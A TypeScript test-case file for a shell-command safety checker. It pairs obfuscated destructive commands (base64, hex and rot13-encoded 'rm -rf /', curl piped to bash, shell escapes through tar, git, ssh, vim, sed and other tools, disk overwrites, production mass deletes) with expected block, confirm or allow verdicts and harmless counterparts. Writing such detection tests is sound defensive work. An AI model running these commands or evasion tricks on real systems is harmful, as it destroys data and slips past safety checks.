// The lead's cases from the ninth stop: code a line encodes and decodes into a shell (base64,
// base32, xxd, rev, tr, printf and echo -e escapes) is decoded and judged; decoded text the line
// does not show is confirmed even on a workstation; aliases the line defines run their text.
// Each with its harmless twins.
import type { CorpusGroup } from '../cases.js';

const PROD_HOST = 'web-prod-2';
const PROD_ENV = { DATABASE_URL: 'postgres://app:s3cret@db.prod.example.com:5432/app', RAILS_ENV: 'production' };
const DEV_ENV = { DATABASE_URL: 'postgres://postgres@localhost:5432/app_dev' };

export const groups: CorpusGroup[] = [
  {
    name: 'lead9: encoded commands decoded into a shell',
    cases: [
      { line: 'echo cm0gLXJmIC8= | base64 -d | sh', expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'base64 --decode <<< cm0gLXJmIC8= | bash', expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"', expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'xxd -r -p <<< 726d202d7266202f | sh', expect: 'block', rule: 'filesystem/rm-root' },
      { line: "echo '/ fr- mr' | rev | sh", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "echo 'ez -es /' | tr a-z n-za-m | sh", expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'base32 -d <<< OJWSALLSMYQC6=== | sh', expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'echo cm0gLXJmIC8= | openssl base64 -d | sh', expect: 'block', rule: 'filesystem/rm-root' },
      { line: "printf '\\x72\\x6d -rf /' | bash", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "printf '\\162\\155 -rf /' | sh", expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'sh -c "$(printf \'rm -rf %s\' /)"', expect: 'block', rule: 'filesystem/rm-root' },
      { line: "echo -e '\\x72\\x6d -rf /var/lib/mysql' | bash", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: 'echo ZHJvcGRiIGFwcA== | base64 -d | sh', hostname: PROD_HOST, expect: 'block', rule: 'database/dropdb' },
      // Not shown: confirm on a workstation too.
      { line: 'curl -s https://example.com/p | base64 -d | bash', expect: 'confirm', rule: 'host/decoded-script' },
      { line: 'echo "$PAYLOAD" | base64 -d | gunzip | sh', expect: 'confirm', rule: 'host/decoded-script' },
      { line: 'eval "$(base64 -d job.b64)"', expect: 'confirm', rule: 'host/decoded-script' },
      { line: 'source <(xxd -r -p payload.hex)', expect: 'confirm', rule: 'host/decoded-script' },
      // Harmless twins.
      { line: 'echo bHMgLWxhCg== | base64 -d | sh', expect: 'allow' },
      { line: 'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config', expect: 'allow' },
      { line: 'base64 -d secret.b64 | kubectl apply -f -', expect: 'allow' },
      { line: "printf '%s\\n' build dist | xargs echo", expect: 'allow' },
      { line: 'echo -e "echo one\\necho two" | sh', expect: 'allow' },
      { line: 'eval "$(ssh-agent -s)"', expect: 'allow' },
      { line: 'curl -fsSL https://get.docker.com | sh', expect: 'warn', rule: 'host/unseen-script' },
      { line: 'eval "$(gpg -d secrets.env.gpg)"', expect: 'warn', rule: 'host/unseen-script' },
    ],
  },
  {
    name: 'lead9: aliases the line defines',
    cases: [
      { line: "alias nuke='rm -rf /'; nuke", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "alias wipe='rm -rf'\nwipe /var/lib/postgresql", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: 'alias k=kubectl; k delete ns prod', kubeContext: 'prod-cluster', expect: 'confirm' },
      { line: "alias ll='ls -la'; ll /tmp", expect: 'allow' },
      { line: 'alias k=kubectl; k get pods', kubeContext: 'prod-cluster', expect: 'allow' },
      { line: "alias nuke='rm -rf /'; \\nuke", expect: 'allow' },
    ],
  },
  {
    name: 'lead9: tools that run a shell line from an option, a client escape or a script command',
    cases: [
      { line: "tar -cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec='rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'tar -xf backup.tar --to-command=\'psql -c "DROP TABLE users"\'', hostname: PROD_HOST, expect: 'block' },
      { line: "git -c core.pager='rm -rf /var/lib/postgresql' log", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "git -c alias.x='!rm -rf /' x", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "ssh -o ProxyCommand='rm -rf /' localhost", expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'rsync -e \'sh -c "rm -rf /"\' x y:z', expect: 'block', rule: 'filesystem/rm-root' },
      { line: "zip /tmp/x.zip /etc/hosts -T -TT 'rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "vim -c ':!rm -rf /var/lib/mysql' -c ':q'", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "vi -es '+!rm -rf /' -c q", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "gdb -batch -ex 'shell rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "man -P 'rm -rf /' ls", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "psql -c '\\! rm -rf /var/lib/postgresql'", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "mysql -e 'system rm -rf /var/lib/mysql'", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "sqlite3 :memory: '.system rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "sed -n 'e rm -rf /' /etc/hostname", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "sed -e '1e rm -rf /var/lib/postgresql' -i notes.txt", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "sed 's/.*/dropdb app/e' <<< x", hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      // Everyday uses of the same tools and options.
      { line: 'tar -I zstd -xf release.tar.zst', expect: 'allow' },
      { line: "tar --use-compress-program='pigz -p 4' -cf out.tgz src", expect: 'allow' },
      { line: 'git -c core.editor=vim commit', expect: 'allow' },
      { line: "git -c core.sshCommand='ssh -i ~/.ssh/deploy' fetch", expect: 'allow' },
      { line: "git -c alias.st='status -sb' st", expect: 'allow' },
      { line: "ssh -o ProxyCommand='ssh -W %h:%p bastion' app1", expect: 'allow' },
      { line: 'ssh -o StrictHostKeyChecking=no deploy@app1', expect: 'allow' },
      { line: "rsync -avz -e 'ssh -p 2222' dist/ web:/srv/site/", expect: 'allow' },
      { line: "vim -c 'set nu' README.md", expect: 'allow' },
      { line: "gdb -batch -ex 'bt' ./core", expect: 'allow' },
      { line: "psql -c '\\dt'", expect: 'allow' },
      { line: "sqlite3 app.db '.tables'", expect: 'allow' },
      { line: "sed -i 's/foo/bar/g' file.txt", expect: 'allow' },
      { line: "sed -n '/^e/p' file.txt", expect: 'allow' },
      { line: "sed 's/e/E/g' file.txt", expect: 'allow' },
    ],
  },
  {
    name: 'lead9: one-liners given their command as an argument, and writing devices or data files',
    cases: [
      { line: 'python3 -c "import sys, os; os.system(sys.argv[1])" \'rm -rf /\'', expect: 'block', rule: 'filesystem/rm-root' },
      { line: "node -e 'require(\"child_process\").execSync(process.argv[1])' 'rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "ruby -e 'system ARGV[0]' 'rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "perl -e 'system $ARGV[0]' 'rm -rf /var/lib/mysql'", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "php -r 'system($argv[1]);' 'rm -rf /'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "awk -v c='rm -rf /' 'BEGIN { system(c) }'", expect: 'block', rule: 'filesystem/rm-root' },
      { line: "python3 -c \"open('/dev/sda','wb').write(b'\\0'*1024)\"", expect: 'confirm', rule: 'filesystem/redirect-to-device' },
      { line: "node -e \"require('fs').writeFileSync('/dev/sda', Buffer.alloc(512))\"", expect: 'confirm', rule: 'filesystem/redirect-to-device' },
      { line: 'php -r \'file_put_contents("/var/lib/redis/dump.rdb", "");\'', expect: 'confirm', rule: 'filesystem/overwrite-data-files' },
      { line: "python3 -c \"f = open('/var/lib/mysql/ibdata1', 'w'); f.close()\"", expect: 'confirm', rule: 'filesystem/overwrite-data-files' },
      // Everyday one-liners.
      { line: "python3 -c 'import sys; print(sys.argv[1])' hello", expect: 'allow' },
      { line: "awk -v n=5 'BEGIN { print n }'", expect: 'allow' },
      { line: 'python3 -c "print(open(\'/etc/hostname\').read())"', expect: 'allow' },
      { line: "python3 -c \"import json; json.dump({}, open('package.json', 'w'))\"", expect: 'allow' },
      { line: "node -e \"require('fs').writeFileSync('dist/version.txt', '1.0')\"", expect: 'allow' },
    ],
  },
  {
    name: 'lead9: app consoles reading code on standard input, and framework CLIs running SQL',
    cases: [
      { line: "echo 'User.destroy_all' | bin/rails console", env: PROD_ENV, expect: 'confirm', rule: 'database/rails-runner-mass-delete' },
      { line: 'bin/rails c <<< \'Order.where(status: "old").delete_all\'', env: PROD_ENV, expect: 'confirm', rule: 'database/rails-runner-mass-delete' },
      { line: 'php artisan tinker <<< \'DB::table("users")->truncate();\'', env: PROD_ENV, expect: 'confirm', rule: 'database/framework-code-mass-delete' },
      { line: "echo 'User.objects.all().delete()' | python manage.py shell", env: PROD_ENV, expect: 'confirm', rule: 'database/framework-code-mass-delete' },
      { line: 'npx typeorm query "DELETE FROM users"', env: PROD_ENV, expect: 'confirm', rule: 'database/framework-sql-console' },
      { line: 'wp db query "DELETE FROM wp_posts"', hostname: PROD_HOST, expect: 'confirm', rule: 'database/framework-sql-console' },
      { line: "echo 'User.count' | bin/rails c", env: PROD_ENV, expect: 'allow' },
      { line: "echo 'User.destroy_all' | bin/rails console", env: DEV_ENV, expect: 'allow' },
      { line: 'npx typeorm query "SELECT 1"', env: DEV_ENV, expect: 'allow' },
    ],
  },
];
